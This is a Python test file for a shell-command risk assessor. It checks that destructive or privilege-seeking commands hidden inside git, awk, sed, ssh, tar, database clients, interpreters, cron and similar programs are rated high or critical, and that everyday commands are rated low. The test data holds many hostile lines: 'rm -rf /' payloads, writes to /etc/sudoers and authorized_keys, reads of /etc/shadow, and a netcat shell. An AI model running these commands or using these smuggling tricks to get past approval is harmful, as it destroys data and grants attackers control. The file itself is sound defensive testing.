"""Programs with a command or a language of their own inside, by example."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.approval.risk import Command, Level, assess
from services.approval.risk.shell.programs import HANDLERS
from services.approval.risk.shell.programs.text_tools import sed_effects
from services.approval.risk.shell.wrapper_table import WRAPPERS

INSIDE = [
    ("git clone ext::sh%20-c%20x a", Level.HIGH),
    ("git -c core.sshCommand='sh -c \"rm -rf /\"' fetch", Level.HIGH),
    ("git config alias.x '!rm -rf /'", Level.CRITICAL),
    ("ssh -o ProxyCommand='rm -rf /' h", Level.CRITICAL),
    ("rsync -e 'sh -c \"rm -rf /\"' a h:", Level.CRITICAL),
    ("tar xf a --to-command='rm -rf /'", Level.CRITICAL),
    ("awk 'BEGIN{system(\"rm -rf /\")}'", Level.CRITICAL),
    ("awk '{ print | \"rm -rf /\" }' f", Level.CRITICAL),
    ("awk 'BEGIN{\"rm -rf /\" | getline}'", Level.CRITICAL),
    ("awk 'BEGIN{print \"x\" > \"/etc/sudoers\"}'", Level.HIGH),
    ("awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'", Level.HIGH),
    ("awk '{system($0)}' f", Level.MEDIUM),
    ("sed '1e rm -rf /' f", Level.HIGH),
    ("sed 's/x/y/e' f", Level.HIGH),
    ("sed -n 'w /etc/sudoers' f", Level.HIGH),
    ("sed 's/a/b/w /root/.ssh/authorized_keys' f", Level.HIGH),
    ("vim -c ':!rm -rf /' -c q", Level.CRITICAL),
    ("vim -es -c 'w! /etc/sudoers' -c q f", Level.HIGH),
    ("printf '!rm -rf /\\n' | ed", Level.CRITICAL),
    ("gdb -batch -ex 'shell rm -rf /'", Level.CRITICAL),
    ("gdb --args rm -rf /", Level.CRITICAL),
    ("sqlite3 x '.shell rm -rf /'", Level.CRITICAL),
    ("psql -c '\\! rm -rf /'", Level.CRITICAL),
    ("mysql -e '\\! rm -rf /'", Level.CRITICAL),
    ("mysql -e 'system rm -rf /'", Level.CRITICAL),
    ("psql -c \"COPY t FROM PROGRAM 'rm -rf /'\"", Level.HIGH),
    ("make --eval='x:;rm -rf /'", Level.CRITICAL),
    ("make --eval='$(shell rm -rf /)'", Level.CRITICAL),
    ("find . -fprintf /etc/sudoers x -exec rm -rf / \\;", Level.CRITICAL),
    ("find . -fprintf /etc/sudoers x", Level.HIGH),
    ("perl -e 'system(\"rm -rf /\")'", Level.CRITICAL),
    ("perl -lane 'system(\"rm -rf /\")' f", Level.CRITICAL),
    ("ruby -e 'system(\"rm -rf /\")'", Level.CRITICAL),
    ("ruby -rsocket -e '`rm -rf /`'", Level.CRITICAL),
    ("php -r 'system(\"rm -rf /\");'", Level.CRITICAL),
    ("lua -e 'os.execute(\"rm -rf /\")'", Level.CRITICAL),
    ("node -e 'require(\"child_process\").execSync(\"rm -rf /\")'", Level.CRITICAL),
    ("perl -pi -e 's/x/y/' /etc/hosts", Level.MEDIUM),
    ("python -m http.server", Level.MEDIUM),
    ("python3 -mhttp.server 80", Level.MEDIUM),
    ("python -m pip install git+https://x.io/a", Level.MEDIUM),
    ("python -m smtpd -n", Level.MEDIUM),
    ("echo 'DROP TABLE x' > a.sql; psql -f a.sql; rm -rf /", Level.CRITICAL),
    ("echo 'DROP TABLE users' > a.sql; psql -f a.sql", Level.HIGH),
    ("echo 'DROP TABLE users' > a.sql; psql < a.sql", Level.HIGH),
    ("echo 'rm -rf /' | at now", Level.CRITICAL),
    ("at now <<< 'rm -rf /'", Level.CRITICAL),
    ("echo '* * * * * rm -rf /' > c; crontab c", Level.CRITICAL),
    ("split --filter='rm -rf /' f", Level.CRITICAL),
    ("sort --compress-program='rm -rf /' f", Level.CRITICAL),
    ("socat - EXEC:'rm -rf /'", Level.CRITICAL),
    ("nc -e /bin/sh h 1", Level.HIGH),
    ("xargs -a f rm -rf /", Level.CRITICAL),
    ("read c <<< 'rm -rf /'; $c", Level.CRITICAL),
    ("printf -v c 'rm -rf /'; eval \"$c\"", Level.CRITICAL),
    ("busybox sh -c 'rm -rf /'", Level.CRITICAL),
    ("cat s | ssh h bash\nrm -rf /", Level.CRITICAL),
]  # fmt: skip


@pytest.mark.parametrize(("script", "least"), INSIDE)
def test_what_a_program_is_made_to_do_is_seen(script: str, least: Level) -> None:
    found = assess(Command(script=script))
    assert found.level >= least, found.factors
    assert found.level is not Level.UNKNOWN


QUIET = [
    "docker run --rm -v $PWD:/w image make test",
    "kubectl exec pod -- ls",
    "ssh host uptime",
    "env FOO=1 npm test",
    "awk -F, '{print $1 > \"out.csv\"}' f",
    "sed -n '/a/,/b/p' f",
    "sed -e 's/a/b/' -e '1i\\ header' f",
    "sed -n 's/.*version = \"\\(.*\\)\".*/\\1/p' setup.cfg",
    "base64 -d a.b64 > a.bin",
    "make -C sub -j4 CC=clang",
    "make test VERBOSE=1",
    "vim +10 file.txt",
    "vim -c 'set nu' file",
    "perl -pe 's/a/b/' f",
    "perl -lane 'print $F[0]' f",
    "ruby -ne 'puts $_ if /x/' f",
    "node -e 'console.log(1)'",
    "php -v",
    "php artisan migrate:status",
    "python -m pytest -q",
    "python -m venv .venv",
    "python -m pip list",
    "python manage.py test",
    "psql -c 'SELECT 1'",
    "sqlite3 a.db '.tables'",
    "sqlite3 a.db 'SELECT * FROM t'",
    "mysql -e 'SHOW TABLES' db",
    "crontab -l",
    "tmux ls",
    "tmux attach -t x",
    "screen -ls",
    "gdb ./a.out",
    "rsync -e 'ssh -p 22' -a h:/x ./x",
    "git -c color.ui=false log",
    "git config user.name x",
    "git config --global core.editor vim",
    "hg log",
    "docker compose exec db psql -c 'select 1'",
    "split -l 100 big.csv part_",
    "sort -o out.txt in.txt",
    "aws s3 cp s3://b/data.csv .",
    "openssl x509 -in cert.pem -noout -text",
    "openssl rand -hex 16",
    "npx prettier --check .",
    "bash scripts/build.sh",
    "./gradlew test",
    "go run ./cmd/x",
    "deno run main.ts",
    "bun test",
    "cmake -E make_directory build",
    "cmake --build build",
    "fzf --preview 'cat {}'",
    "hyperfine 'ls' 'ls -la'",
    "bash -n script.sh",
    "ssh-agent bash -c 'ssh-add -l'",
    "ffmpeg -i a.mp4 -vf scale=1:1 b.mp4",
]  # fmt: skip


@pytest.mark.parametrize("script", QUIET)
def test_everyday_uses_of_these_programs_are_low(script: str) -> None:
    found = assess(Command(script=script))
    assert found.level is Level.LOW, found.factors


@pytest.mark.parametrize(
    ("script", "effects"),
    [
        ("s/a/b/g; p; /x/d", []),
        ("s|a|b|e", [("execute", "")]),
        ("1,3e date", [("execute", "date")]),
        ("/a\\/b/w out.txt", [("write", "out.txt")]),
        ("s/a/b/w log", [("write", "log")]),
        ("y/ew/we/", []),
        ("a\\ew x", []),
        ("r /etc/passwd", [("read", "/etc/passwd")]),
        ("\\,e x,p", []),
        ("s/w x/e y/", []),
        ("# e x", []),
        ("b e", []),
    ],
)
def test_sed_scripts_are_read_as_sed_reads_them(script: str, effects: list[tuple[str, str]]) -> None:
    assert list(sed_effects(script)) == effects


@given(st.text(alphabet="sewrRWyabt/|\\{};\n 13$,!#gpI", max_size=80))
def test_any_sed_script_is_read_to_its_end(script: str) -> None:
    assert all(kind in ("execute", "write", "read") for kind, _ in sed_effects(script))


PROGRAMS = sorted(
    {
        *HANDLERS,
        *WRAPPERS,
        *"tar zip 7z gzip gunzip cp mv ln install dd tee tr xxd base64 openssl curl wget aws split cpio".split(),
    }
)
PIECES = (
    "-c -e -o -x -X -f -C -I{} -s -i -S -d -la -so --exec --args --eval --file= --checkpoint-action=exec=a "
    "-- - + ::: {} ; run exec shell "
    "send-keys config foreach a b=1 /etc/shadow @x s/a/b/e {system(a)} $x $(b) <(c) h:/p s3://b/x"
).split()


@settings(deadline=None, max_examples=400)
@given(
    st.sampled_from(PROGRAMS),
    st.lists(st.sampled_from([*PIECES, ""]), max_size=6),
    st.sampled_from(["", "echo a | ", "cat f | "]),
)
def test_any_arguments_of_any_program_are_answered(program: str, arguments: list[str], before: str) -> None:
    quoted = " ".join(f"'{each}'" if "{" in each or ";" in each or not each else each for each in arguments)
    assert 0 <= assess(Command(script=f"{before}{program} {quoted}")).score <= 100


def test_an_awk_program_of_many_commands_takes_bounded_work() -> None:
    assert assess(Command(script="awk '" + "system(" * 9000 + "'")).level is not Level.LOW
